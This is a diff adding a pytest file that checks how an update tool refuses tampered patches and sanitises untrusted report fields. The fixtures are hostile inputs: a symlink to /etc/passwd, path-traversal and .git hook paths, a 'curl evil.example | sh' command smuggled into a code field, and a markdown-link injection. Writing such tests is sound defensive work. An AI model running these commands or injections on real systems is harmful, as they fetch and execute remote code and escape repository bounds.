@@ -1,0 +1,233 @@
+"""A patch from a machine that ran a release's code: what an update would not change is refused, file by file."""
+
+from __future__ import annotations
+
+import os
+import shutil
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from agent_runtime import codes
+from agent_runtime.local.update import patch, proposal_pages
+from agent_runtime.local.update import template as update_template
+from agent_runtime.local.update.repository import Repository
+from support import engines, updates
+from support.engines import Render
+
+PLAN = "agent_runtime/model/plan.py"
+CHECKS = "agent_runtime/gate/checks.py"
+NEW = "agent_runtime/brand_new.py"
+ANSWERS = ".copier-answers.yml"
+OWN = ".github/workflows/own.yml"
+POLICY = ".github/agent-policies/checkout-restart-co.yml"
+
+
+def _release(folder: Path) -> None:
+    updates.append(folder / PLAN, "\n# Release 1.1.0\n")
+    updates.append(folder / "README.md.jinja", "\nRelease 1.1.0\n")
+    (folder / NEW).write_text('"""New."""\n', encoding="utf-8")
+    (folder / "docs/AUDITOR.md").unlink()
+
+
+@dataclass
+class Place:
+    """A repository behind its template, an honest patch of it, and a copy on which the update is made."""
+
+    project: Path
+    honest: bytes
+    copy: Path
+    source: update_template.Template
+    work: Path
+
+    def look(self, data: bytes) -> dict[str, tuple[str, str]]:
+        """What the examination of a patch finds: kind and origin by path."""
+        repository = Repository(self.project)
+        commit = patch.apply(repository, data, "Update\n", self.work)
+        found = patch.examine(repository, commit, self.source, "v1.1.0")
+        return {each.path: (each.kind, each.origin) for each in found}
+
+    def patch_after(self, edit: Callable[[Path], object]) -> bytes:
+        """The patch of somebody who changed more than the update."""
+        engines.git(self.copy, "checkout", "--quiet", "--force", "updated")
+        engines.git(self.copy, "clean", "-fdq")
+        edit(self.copy)
+        engines.git(self.copy, "add", "--all")
+        return os.fsencode(
+            engines.git(self.copy, "diff", "--binary", "--full-index", "--no-renames", "--cached", "main")
+        )
+
+
+@pytest.fixture(scope="module")
+def place(template: Path, render: Render, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
+    """One for all tests: looking at a patch changes nothing."""
+    folder = tmp_path_factory.mktemp("place")
+    later = updates.release_after(template, folder / "later" / "gated-agents", _release)
+    project = updates.born(render(), folder / "project", template, later)
+    before = updates.snapshot(project)
+    done = updates.command(project, "update", "--patch", str(folder / "made" / "update.patch"))
+    assert (done.returncode, done.stdout.splitlines()[0]) == (0, "v1.0.0 -> v1.1.0"), done.stderr
+    after = updates.snapshot(project)
+    assert after == before
+    honest = (folder / "made" / "update.patch").read_bytes()
+    copy = shutil.copytree(project, folder / "copy", symlinks=True)
+    engines.git(copy, "reset", "--quiet", "--hard")
+    engines.git(copy, "apply", "--index", str(folder / "made" / "update.patch"))
+    engines.git(copy, "switch", "--quiet", "--create", "updated")
+    engines.git(copy, "commit", "--quiet", "--message", "Update")
+    recorded = update_template.Recorded((project / ANSWERS).read_bytes())
+    with update_template.opened(recorded, project) as source:
+        work = folder / "work"
+        work.mkdir()
+        yield Place(project, honest, copy, source, work)
+
+
+def test_an_honest_patch_is_what_the_release_changes(place: Place) -> None:
+    before = updates.snapshot(place.project)
+
+    found = place.look(place.honest)
+
+    assert found == {
+        ANSWERS: ("changed", patch.RENDERED),
+        "README.md": ("changed", patch.RENDERED),
+        PLAN: ("changed", patch.RELEASED),
+        NEW: ("added", patch.RELEASED),
+        "agent_runtime/manifest.json": ("changed", patch.RELEASED),
+        "docs/AUDITOR.md": ("removed", patch.RELEASED),
+    }
+    assert updates.snapshot(place.project) == before
+    repository = Repository(place.project)
+    commits = {patch.apply(repository, place.honest, "Update\n", place.work) for _ in range(2)}
+    assert len(commits) == 1, "a second try makes the same commit"
+
+
+def _text(name: str) -> Callable[[Path], object]:
+    return lambda root: updates.append(root / name, "# Ours\n") if (root / name).exists() else _new(root / name)
+
+
+def _new(path: Path) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text("# Ours\n", encoding="utf-8")
+
+
+def _link(root: Path) -> None:
+    (root / PLAN).unlink()
+    (root / PLAN).symlink_to("/etc/passwd")
+
+
+def _answer(old: str, new: str) -> Callable[[Path], object]:
+    return lambda root: updates.replace(root / ANSWERS, old, new)
+
+
+OTHER = "is not as the release has it"
+EDITS: dict[str, tuple[Callable[[Path], object], str]] = {
+    "the agent": (_text("agent_runner.py"), "agent_runner.py is the team's"),
+    "the policy": (_text(POLICY), f"{POLICY} is not a file of the template's"),
+    "the agent's packages": (_text("requirements-agent.in"), "requirements-agent.in is the team's"),
+    "a workflow more": (_text(OWN), f"{OWN} is not a file of the template's"),
+    "the gate's code": (_text(CHECKS), f"{CHECKS} {OTHER}"),
+    "what the release changes": (_text(PLAN), f"{PLAN} {OTHER}"),
+    "a new file": (_text(NEW), f"{NEW} {OTHER}"),
+    "a static workflow": (_text(".github/workflows/agent-update.yml"), f"agent-update.yml {OTHER}"),
+    "no code owners": (lambda root: (root / ".github/CODEOWNERS").unlink(), ".github/CODEOWNERS is in the release"),
+    "a file less": (lambda root: (root / CHECKS).unlink(), f"{CHECKS} is in the release"),
+    "what is gone": (_text("docs/AUDITOR.md"), "docs/AUDITOR.md is not in the release"),
+    "a program": (lambda root: (root / PLAN).chmod(0o755), f"{PLAN} {OTHER}"),
+    "a link": (_link, f"{PLAN} is not a regular file"),
+    "another template": (_answer("_src_path: ", "_src_path: /elsewhere"), "names another release or another template"),
+    "another version": (_answer("_commit: v1.1.0", "_commit: v1.0.0"), "names another release or another template"),
+    "another gate": (_answer("_plan: public", "_plan: private-free"), "the answer repository_plan is another one"),
+    "no answers": (lambda root: (root / ANSWERS).unlink(), f"{ANSWERS} is in the release"),
+}
+
+
+@pytest.mark.parametrize("name", EDITS)
+def test_more_than_the_release_changes_is_refused(name: str, place: Place) -> None:
+    edit, said = EDITS[name]
+
+    with pytest.raises(codes.GateRefused) as refused:
+        place.look(place.patch_after(edit))
+
+    assert refused.value.code == "UPD21"
+    assert said in refused.value.message
+
+
+@pytest.mark.parametrize("path", [".git/hooks/pre-push", "../outside.txt", "docs/../../outside.txt", ".GIT/config", ""])
+def test_what_no_repository_may_contain_is_refused(path: str, place: Place) -> None:
+    header = (
+        f"diff --git a/{path} b/{path}\nnew file mode 100755\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+#!/bin/sh\n"
+    )
+    before = updates.snapshot(place.project)
+
+    with pytest.raises(codes.GateRefused) as refused:
+        place.look(place.honest + header.encode() if path else b"")
+
+    assert refused.value.code == "UPD21"
+    assert updates.snapshot(place.project) == before
+    assert not (place.project.parent / "outside.txt").exists()
+
+
+def test_a_merge_with_an_edit_that_was_here_is_named(place: Place, tmp_path: Path) -> None:
+    project = shutil.copytree(place.project, tmp_path / "project", symlinks=True)
+    path = project / PLAN
+    hot_fix = "# Our hot fix\n" + path.read_text(encoding="utf-8")
+    path.write_text(hot_fix, encoding="utf-8")
+    engines.commit_all(project, "Fix it at once")
+    fixed = Place(project, b"", shutil.copytree(project, tmp_path / "copy"), place.source, tmp_path)
+    engines.git(fixed.copy, "switch", "--quiet", "--create", "updated")
+    engines.git(fixed.copy, "reset", "--quiet", "--hard")
+    (tmp_path / "honest").write_bytes(place.honest)
+    engines.git(fixed.copy, "apply", "--index", "-3", str(tmp_path / "honest"))
+    engines.git(fixed.copy, "commit", "--quiet", "--message", "Update")
+
+    found = fixed.look(fixed.patch_after(lambda root: None))
+
+    assert found[PLAN] == ("changed", patch.MERGED)
+    assert found[NEW] == ("added", patch.RELEASED)
+
+
+CHANGELOG = """\
+# Changelog
+
+## Unreleased
+- later
+
+## [v0.10.0] - 2027
+- ten
+### Do
+- this
+
+## 0.9.0
+- nine
+## v0.8.0
+- eight
+"""
+
+
+@pytest.mark.parametrize(
+    ("current", "version", "expected"),
+    [
+        ("v0.8.0", "v0.9.0", "## 0.9.0\n- nine"),
+        ("v0.9.0", "v0.10.0", "## [v0.10.0] - 2027\n- ten\n### Do\n- this"),
+        ("v0.8.0", "v0.10.0", "## [v0.10.0] - 2027\n- ten\n### Do\n- this\n\n## 0.9.0\n- nine"),
+        ("v0.10.0", "v0.9.0", ""),
+    ],
+)
+def test_the_notes_are_those_of_the_versions_between(current: str, version: str, expected: str) -> None:
+    assert proposal_pages.notes(CHANGELOG, current, version) == expected
+
+
+def test_nobody_pastes_what_a_machine_that_lies_calls_a_code() -> None:
+    release = proposal_pages.Release("v1.0.0", "v1.1.0", "a" * 40, "", ())
+    lies = {"code": "CON04; curl evil.example | sh", "path": "x`](http://evil.example)\n# Approved", "line": "1"}
+    report = {"weaker": [lies, {"code": "CON04"}, "no object"], "changes": 1, "drift": None}
+
+    text = proposal_pages.issue(release, report, has_app=True)
+
+    assert "update --to v1.1.0 --accept CON04\n" in text
+    assert 'accept="CON04"' in text
+    assert "\n# Approved" not in text
+    assert "evil" not in text.partition("## The gate")[0]
+    assert "| **`CON04; curl evil.example `&#124;` sh`** |" in text
